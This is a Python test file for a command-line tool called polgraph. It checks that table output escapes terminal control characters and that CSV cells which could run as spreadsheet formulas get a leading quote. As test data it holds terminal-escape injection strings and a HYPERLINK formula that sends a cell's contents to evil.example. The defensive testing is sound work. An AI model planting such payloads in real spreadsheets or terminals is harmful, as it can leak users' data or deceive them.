"""Hostile text on the way out: a table never sends control characters raw to the terminal, and
CSV cells that a spreadsheet would run as formulas are neutralised."""
from __future__ import annotations

import csv
import io

import handmade
from conftest import cli
from polgraph.api import PolGraph
from polgraph.graph.loader import Loader
from polgraph.output import render

ESCAPE_TITLE = "Red \x1b[31malert\x1b]0;owned\x07 line\roverwritten \u202etxt.exe"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def load_titles(home, *titles: str) -> None:
    """The hand-made graph, its articles titled with `titles` in turn (Jon Lansman criticises Momentum)."""
    articles, entities, relations = handmade.extraction(len(titles))
    for article, title in zip(articles, titles):
        article.title = title
    with PolGraph.open(None, home=home) as g:
        Loader(g.writable_store, g.batch_size).load(articles, entities, relations)


def test_a_table_shows_control_characters_escaped_never_raw(home):
    load_titles(home, ESCAPE_TITLE)
    done = cli("query", "critics_of", "-p", "name=Momentum", "--format", "table")
    assert done.returncode == 0, done.stderr
    assert not any(c in done.stdout for c in "\x1b\x07\r\u202e")
    assert "Red \\x1b[31malert\\x1b]0;owned\\x07 line overwritten \\u202e" in done.stdout


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(home):
    load_titles(home, FORMULA_TITLE, "+1+2", "-3", "@SUM(A1)", "\t=1", "a plain title")
    done = cli("query", "critics_of", "-p", "name=Momentum", "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert sorted(r["title"] for r in rows) == sorted(
        ["'" + FORMULA_TITLE, "'+1+2", "'-3", "'@SUM(A1)", "'\t=1", "a plain title"])
    assert {r["confidence"] for r in rows} == {"0.8"}  # numbers stay numbers
    negative = cli("cypher", "RETURN -1.5 AS n, $t AS t", "-p", "t=-1.5", "--format", "csv")
    assert negative.stdout.splitlines()[1] == "-1.5,'-1.5"  # a number as is; the same as text, quoted


def test_a_table_escapes_what_error_lines_escape_a_lone_surrogate_too():
    """The table had a copy of the escaping of error lines, without lone surrogates: one raw in a
    cell cannot even be written to a UTF-8 terminal. Now both use `core.errors.printable`."""
    table = render([{"title": "cut \ud800 here", "who": "A\u2066B"}], "table")
    assert "cut \\ud800 here" in table and "A\\u2066B" in table
    table.encode("utf-8")
